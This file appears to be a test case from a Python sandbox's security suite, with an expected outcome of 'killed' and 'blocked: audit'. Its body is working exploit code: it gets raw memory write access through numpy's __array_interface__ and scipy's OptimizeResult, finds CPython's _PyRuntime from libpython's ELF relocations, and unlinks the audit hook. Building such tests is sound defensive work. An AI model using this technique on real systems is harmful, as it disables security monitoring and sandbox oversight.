# category: builtins
# attack: numpy's __array_interface__, answered by a library object whose attributes are its dict items (scipy's OptimizeResult), makes a writable view of any address of the run's own process: the program finds CPython's runtime state through libpython's symbols and relocations and unlinks the audit hook, then exits as if nothing happened; the server reads the hook from outside after the run
# profile: basic data_science
# verdict: killed
# blocked: audit
# blocked-name: audit hook altered
import struct
import numpy as np
from scipy.optimize import OptimizeResult


def view(addr, n, typestr="|u1"):
    size = int(typestr[2:])
    r = OptimizeResult(__array_interface__={
        "data": (addr, False), "shape": (n // size,), "typestr": typestr,
        "version": 3})
    return np.asarray(r)


def runtime_state(path):
    """The address of CPython's _PyRuntime as libpython uses it: through
    its GOT slot (the executable may hold a copy of it), found from the
    library's dynamic symbols and relocations."""
    with np.DataSource("output").open(path, "rb") as f:
        b = f.read()
    shoff, = struct.unpack_from("<Q", b, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", b, 0x3A)
    secs = [struct.unpack_from("<IIQQQQIIQQ", b, shoff + i * shentsize)
            for i in range(shnum)]
    dynsym = [s for s in secs if s[1] == 11][0]
    strtab = secs[dynsym[6]][4]
    index, value = {}, {}
    for i, o in enumerate(range(dynsym[4], dynsym[4] + dynsym[5], 24)):
        name, _, _, _, val, _ = struct.unpack_from("<IBBHQQ", b, o)
        n = b[strtab + name:b.index(b"\0", strtab + name)]
        if n in (b"_PyRuntime", b"PyRange_Type"):
            index[n], value[n] = i, val
    base = id(range) - value[b"PyRange_Type"]
    for s in secs:
        if s[1] != 4:  # SHT_RELA
            continue
        for o in range(s[4], s[4] + s[5], 24):
            off, info, addend = struct.unpack_from("<QQq", b, o)
            if info >> 32 == index[b"_PyRuntime"]:
                return int(view(base + off, 8, "<u8")[0]) - addend
    raise LookupError("no relocation of _PyRuntime")


runtime = None
for arch in ("x86_64", "aarch64"):
    try:
        runtime = runtime_state(
            f"/usr/lib/{arch}-linux-gnu/libpython3.11.so.1.0")
        break
    except OSError:
        pass
# offsetof(_PyRuntimeState, audit_hook_head) in CPython 3.11 (64-bit)
head = view(runtime + 656, 8, "<u8")
entry = view(int(head[0]), 24, "<u8")
assert entry[0] == 0 and entry[2] == 0 and entry[1] != 0, "no hook entry"
head[0] = 0
print("audit hook unlinked")
